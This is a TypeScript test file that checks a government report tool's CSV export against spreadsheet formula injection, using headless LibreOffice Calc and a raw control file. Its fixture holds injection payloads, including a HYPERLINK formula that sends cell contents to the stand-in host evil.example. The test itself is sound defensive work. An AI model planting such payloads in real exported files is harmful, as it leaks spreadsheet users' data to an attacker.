/**
 * The CSV in a real spreadsheet engine: LibreOffice Calc opens it (as Excel users would double-click it) and the
 * result is read back with exceljs. A control file with the same payload left raw shows the engine does evaluate
 * formulas from CSV, so this test would catch a neutralisation that stopped working.
 */
import { execFileSync } from 'child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import ExcelJS from 'exceljs';
import { csvField, reportToOpenData, toCsv } from '../../../report/render';
import { consistentReport2019, consistentReport2021 } from './fixtures';

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(existsSync);
const PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

async function readSheet(path: string): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return wb.worksheets[0]!;
}

const isFormula = (c: ExcelJS.Cell) => c.type === ExcelJS.ValueType.Formula;

describe('the open-data CSV opened in LibreOffice Calc', () => {
  let dir = '';
  beforeAll(() => {
    if (!SOFFICE)
      throw new Error(
        'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui (CI installs it)',
      );
    dir = mkdtempSync(join(tmpdir(), 'nianbao-csv-'));
    const hostile = consistentReport2021();
    hostile.agency = PAYLOAD;
    hostile.values['t3.new.other'] = '@SUM(1+1)';
    hostile.values['t4.review.other'] = '+1+1';
    const csv = toCsv([reportToOpenData(hostile), reportToOpenData(consistentReport2019())]);
    writeFileSync(join(dir, 'open.csv'), csv, 'utf8');
    // The control: the same first line of data, with the agency written raw (only RFC 4180 quoting).
    const lines = csv.split('\r\n');
    const first = lines[1]!.replace(csvField(PAYLOAD), `"${PAYLOAD.replace(/"/g, '""')}"`);
    writeFileSync(join(dir, 'control.csv'), [lines[0], first, ''].join('\r\n'), 'utf8');
    execFileSync(
      SOFFICE,
      [
        `-env:UserInstallation=file://${join(dir, 'profile')}`,
        '--headless',
        '--infilter=CSV:44,34,76,1',
        '--convert-to',
        'xlsx',
        '--outdir',
        dir,
        join(dir, 'open.csv'),
        join(dir, 'control.csv'),
      ],
      { stdio: 'pipe', timeout: 90_000 },
    );
  }, 120_000);
  afterAll(() => dir && rmSync(dir, { recursive: true, force: true }));

  it('the control shows Calc evaluates a raw formula from CSV', async () => {
    const sheet = await readSheet(join(dir, 'control.xlsx'));
    expect(isFormula(sheet.getCell(2, 1))).toBe(true);
  });

  it('our CSV has no formula anywhere; the payloads show as text; Chinese headers and -3 survive', async () => {
    const sheet = await readSheet(join(dir, 'open.xlsx'));
    const header: string[] = [];
    sheet.getRow(1).eachCell((c, i) => (header[i] = c.text));
    const col = (label: string) => {
      expect(header).toContain(label);
      return header.indexOf(label);
    };
    let cells = 0;
    sheet.eachRow((row) =>
      row.eachCell((c) => {
        cells++;
        expect(isFormula(c)).toBe(false);
      }),
    );
    expect(cells).toBeGreaterThan(200);
    expect(sheet.getCell(2, col('行政机关名称')).text).toBe(`'${PAYLOAD}`);
    expect(sheet.getCell(2, col('表三/一、本年新收政府信息公开申请数量/其他')).text).toBe("'@SUM(1+1)");
    expect(sheet.getCell(2, col('表四/行政复议/其他结果')).text).toBe("'+1+1");
    expect(sheet.getCell(2, col('表三/（一）予以公开/自然人')).value).toBe(3);
    expect(sheet.getCell(3, col('表二/第二十条第（五）项/行政许可/本年增/减')).value).toBe(-3);
    expect(sheet.getCell(3, col('表二/第二十条第（九）项/政府集中采购/采购总金额')).value).toBe(132.5);
  });
});
